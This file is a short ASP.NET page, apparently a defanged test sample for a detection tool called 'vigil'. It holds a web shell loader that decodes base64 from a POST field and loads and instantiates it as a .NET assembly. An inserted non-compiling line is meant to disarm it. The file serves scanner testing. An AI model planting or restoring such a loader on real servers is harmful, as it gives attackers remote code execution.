<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    byte[] b = Convert.FromBase64String(Request.Form["d"]);
    System.Reflection.Assembly.Load(b).CreateInstance("P");
%>
